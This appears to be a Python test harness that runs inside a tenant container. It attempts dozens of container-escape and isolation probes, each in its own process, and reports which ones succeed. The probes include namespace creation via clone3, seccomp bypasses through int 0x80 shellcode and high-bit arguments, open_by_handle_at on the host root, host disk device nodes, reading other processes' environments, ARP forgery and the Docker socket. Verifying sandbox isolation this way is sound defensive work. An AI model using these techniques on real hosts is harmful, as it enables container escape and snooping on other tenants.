"""Attacks of a hostile tenant from inside its container. Runs there alone, with the standard library only.

Its argument, a JSON object, says what is to be looked for. It prints one: attack -> [whether it got through, what it
saw]. Every attack runs in a process of its own; one that got through changes nothing that matters to the machine.
"""

# ruff: noqa: PTH102, PTH103, PTH106, PTH108, PTH116, PTH123, PTH208, T201
# It loads as little as possible, and what it prints is its answer.

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
NEW_NUMBERS = {"io_uring_setup": 425, "clone3": 435, "memfd_secret": 447}
"""The same on both architectures."""
NUMBERS = {
    "x86_64": {"keyctl": 250, "bpf": 321, "perf_event_open": 298, "socket": 41, "clone": 56} | NEW_NUMBERS,
    "aarch64": {"keyctl": 219, "bpf": 280, "perf_event_open": 241, "socket": 198, "clone": 220} | NEW_NUMBERS,
}
UPPER_HALF = 1 << 32
"""In an argument that the kernel takes as an int, a filter that compares 64 bits sees this, and the kernel does not."""
NEW_USER, NEW_MOUNTS = 0x1000_0000, 0x0002_0000
ATTACKS = {}


class Refused(Exception):  # noqa: N818
    """There was nothing to be had."""


def attack(name):
    def keep(work):
        ATTACKS[name] = work
        return work

    return keep


def call(name, *arguments):
    found = getattr(LIBC, name)(*arguments)
    if found < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return found


def system_call(name, *arguments):
    return call("syscall", NUMBERS[platform.machine()][name], *arguments)


def opened(path, flags):
    os.close(os.open(path, flags))
    return path


# --- the kernel -------------------------------------------------------------------------------------------------------


@attack("rights beyond none")
def _rights(_facts):
    with open("/proc/self/status", encoding="utf-8") as file:
        said = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    wanted = {"CapEff": 0, "CapPrm": 0, "CapBnd": 0, "CapAmb": 0, "NoNewPrivs": 1, "Seccomp": 2}
    wrong = {name: said[name] for name, value in wanted.items() if int(said[name], 16) != value}
    if not wrong:
        raise Refused("no capability, no new privileges, seccomp")
    return str(wrong)


@attack("user namespace")
def _user_namespace(_facts):
    call("unshare", NEW_USER)
    return "made"


@attack("mount namespace")
def _mount_namespace(_facts):
    call("unshare", NEW_MOUNTS)
    return "made"


def _cloned(child):
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "made"


@attack("user namespace by clone")
def _user_namespace_by_clone(_facts):
    return _cloned(system_call("clone", ctypes.c_ulong(NEW_USER | signal.SIGCHLD), None, None, None, None))


@attack("user namespace by clone3")
def _user_namespace_by_clone3(_facts):
    # Its flags are in memory, where no filter sees them.
    arguments = ctypes.create_string_buffer(struct.pack("=QQQQQQQQ", NEW_USER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
    return _cloned(system_call("clone3", arguments, ctypes.c_size_t(64)))


@attack("io_uring")
def _io_uring(_facts):
    os.close(system_call("io_uring_setup", 1, ctypes.create_string_buffer(120)))
    return "made"


@attack("memory that is hidden from the kernel")
def _hidden_memory(_facts):
    os.close(system_call("memfd_secret", 0))
    return "made"


@attack("32-bit system calls")
def _calls_of_32_bits(_facts):
    if platform.machine() != "x86_64":
        raise Refused("empty")
    # mov eax, 20 (getpid); int 0x80; ret
    with mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as memory:
        memory.write(bytes.fromhex("b814000000cd80c3"))
        code = ctypes.c_char.from_buffer(memory)
        found = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(code))()
        del code
    return f"process {found}"


@attack("x32 system calls")
def _calls_of_x32(_facts):
    if platform.machine() != "x86_64":
        raise Refused("empty")
    return str(call("syscall", ctypes.c_long(0x4000_0000 | 39)))  # getpid


@attack("mount")
def _mount(_facts):
    os.makedirs("/tmp/mnt", exist_ok=True)
    call("mount", b"none", b"/tmp/mnt", b"tmpfs", 0, None)
    return "mounted"


@attack("chroot")
def _chroot(_facts):
    os.chroot("/tmp")
    return "changed"


@attack("device node of the disk")
def _device_node(_facts):
    # This file is one of the host's, so it lies on the host's disk.
    os.mknod("/disk", stat.S_IFBLK | 0o600, os.stat("/etc/hostname").st_dev)
    os.unlink("/disk")
    return "made"


@attack("file of the host by its handle")
def _handle(_facts):
    # Inode 2 is the root of the host's file system; the way from a file of it to there needs no path.
    handle = struct.pack("=IiII", 8, 1, 2, 0)
    mount = os.open("/etc/hostname", os.O_RDONLY)
    found = call("open_by_handle_at", mount, ctypes.c_char_p(handle), os.O_RDONLY)
    return str(os.listdir(found)[:3])


@attack("keyring")
def _keyring(_facts):
    return str(system_call("keyctl", 0, ctypes.c_int(-3), 1))


@attack("kernel log")
def _kernel_log(_facts):
    return str(call("klogctl", 3, ctypes.create_string_buffer(4096), 4096))


@attack("kernel log device")
def _kernel_log_device(_facts):
    return opened("/dev/kmsg", os.O_RDWR)


@attack("bpf")
def _bpf(_facts):
    values = ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1), 72)
    return str(system_call("bpf", 0, values, 72))


@attack("performance counters of the machine")
def _perf(_facts):
    about = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 112, 0), 112)
    return str(system_call("perf_event_open", about, -1, 0, -1, 0))


@attack("kernel memory")
def _kernel_memory(_facts):
    with open("/proc/kcore", "rb") as file:
        if not file.read(16):
            raise Refused("empty")
    return "read"


@attack("keys of the machine")
def _keys(_facts):
    with open("/proc/keys", "rb") as file:
        if not file.read(16):
            raise Refused("empty")
    return "read"


@attack("kernel settings")
def _settings(_facts):
    return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY)


@attack("system request")
def _system_request(_facts):
    return opened("/proc/sysrq-trigger", os.O_WRONLY)


@attack("control group of its own making")
def _control_group(_facts):
    path = "/sys/fs/cgroup/gantry-attack"
    os.mkdir(path)
    os.rmdir(path)
    return "made"


@attack("spared when memory is short")
def _spared(_facts):
    with open("/proc/self/oom_score_adj", "w", encoding="utf-8") as file:
        file.write("-1000")
    return "written"


@attack("more open files")
def _more_files(_facts):
    resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 16, 1 << 16))
    return "had"


@attack("another name of the machine")
def _hostname(_facts):
    call("sethostname", b"owned", 5)
    return "set"


# --- others on the machine --------------------------------------------------------------------------------------------


@attack("processes of others")
def _processes(facts):
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if bytes.fromhex(facts["marker"]) in file.read():
                        found.append(f"{name} of {pid}")
            except OSError:
                continue
    if not found:
        raise Refused("none is to be seen")
    return str(found)


@attack("traces of others")
def _traces(facts):
    found = []
    for top in ("/sys/fs/cgroup", "/proc/self", "/proc/net"):
        for folder, folders, files in os.walk(top, onerror=None):
            if top == "/proc/self":
                folders.clear()
            found += [f"{folder}/{name}" for name in folders for word in facts["others"] if word in name]
            for name in files if top != "/sys/fs/cgroup" else ():
                if name in ("cmdline", "environ", "mem", "pagemap", "clear_refs"):
                    continue
                try:
                    with open(f"{folder}/{name}", "rb") as file:
                        said = file.read(1 << 20)
                except OSError:
                    continue
                found += [f"{word} in {folder}/{name}" for word in facts["others"] if word.encode() in said]
    if not found:
        raise Refused("none")
    return str(found)


@attack("the engine's socket")
def _engine(facts):
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", facts["engine"]):
        with socket.socket(socket.AF_UNIX) as made:
            try:
                made.connect(path)
            except OSError:
                continue
            return path
    raise Refused("there is none")


@attack("a secret of another pod")
def _secret(facts):
    for folder in ("/dev/shm", "/run/secrets", facts["files"]):
        for place, _, files in os.walk(folder):
            for name in files:
                with open(f"{place}/{name}", "rb") as file:
                    if facts["secret"].encode() in file.read(1 << 20):
                        return f"{place}/{name}"
    raise Refused("none is here")


# --- the network's lower floors ---------------------------------------------------------------------------------------


@attack("raw packets")
def _raw(_facts):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "can be sent"


@attack("packets of others")
def _packets(_facts):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "can be read and forged"


def _address(ip):
    return struct.pack("=H2s4s8s", socket.AF_INET, b"", socket.inet_aton(ip), b"")


@attack("forged neighbour")
def _neighbour(facts):
    place = struct.pack("=H14s", 1, b"\x02\x00\x00\x00\x00\x01")
    wanted = _address(facts["gateway"]) + place + struct.pack("=i16s16s", 2 | 4, b"", b"eth0")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        fcntl.ioctl(made, 0x8955, wanted)  # SIOCSARP
    return "written"


@attack("another address")
def _another_address(_facts):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        fcntl.ioctl(made, 0x8916, struct.pack("=16s16s8s", b"eth0:9", _address("198.51.100.9"), b""))  # SIOCSIFADDR
    return "taken"


@attack("the hypervisor's sockets")
def _vsock(_facts):
    # They belong to no network namespace. Only made here, never connected.
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "can be made"


@attack("the hypervisor's sockets, by a family with more bits")
def _vsock_with_more_bits(_facts):
    os.close(system_call("socket", ctypes.c_long(UPPER_HALF | socket.AF_VSOCK), socket.SOCK_STREAM, 0))
    return "can be made"


@attack("the kernel's ciphers")
def _ciphers(_facts):
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).close()
    return "can be used"


# --- in processes of their own ----------------------------------------------------------------------------------------


def tried(work, facts):
    reading, writing = os.pipe()
    if not os.fork():
        try:
            outcome = [True, work(facts)]
        except (OSError, Refused, ValueError) as error:
            outcome = [False, errno.errorcode.get(getattr(error, "errno", None) or 0, str(error))]
        os.write(writing, json.dumps(outcome).encode())
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as said:
        written = said.read()
    _, status = os.wait()
    if not written:
        return [False, f"it was killed by {signal.Signals(os.WTERMSIG(status)).name}"]
    return json.loads(written)


if __name__ == "__main__":
    print(json.dumps({name: tried(work, json.loads(sys.argv[1])) for name, work in ATTACKS.items()}))
